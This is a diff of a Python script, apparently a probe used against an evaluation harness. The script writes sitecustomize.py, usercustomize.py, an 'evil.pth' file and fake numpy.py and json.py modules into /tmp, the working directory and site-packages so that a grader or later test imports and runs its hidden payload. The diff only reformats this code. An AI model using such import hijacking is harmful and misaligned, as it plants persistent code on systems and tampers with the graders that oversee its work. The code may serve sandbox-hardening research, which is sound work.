@@ -1,5 +1,6 @@
 """Plant sitecustomize.py, a .pth file and modules shadowing numpy/json, hoping the
 grader (or the next test) imports them; also try to write them into site-packages."""
+
 import argparse
 import os
 import site
@@ -15,9 +16,13 @@ def main(args):
     planted = {}
     targets = ["/tmp", os.getcwd(), *site.getsitepackages(), os.path.dirname(os.__file__)]
     for directory in targets:
-        for name, text in (("sitecustomize.py", PAYLOAD), ("usercustomize.py", PAYLOAD),
-                           ("evil.pth", "import os; " + PAYLOAD.splitlines()[1] + "\n"),
-                           ("numpy.py", PAYLOAD), ("json.py", PAYLOAD)):
+        for name, text in (
+            ("sitecustomize.py", PAYLOAD),
+            ("usercustomize.py", PAYLOAD),
+            ("evil.pth", "import os; " + PAYLOAD.splitlines()[1] + "\n"),
+            ("numpy.py", PAYLOAD),
+            ("json.py", PAYLOAD),
+        ):
             try:
                 with open(os.path.join(directory, name), "w") as f:
                     f.write(text + f"# {args.marker}\n")
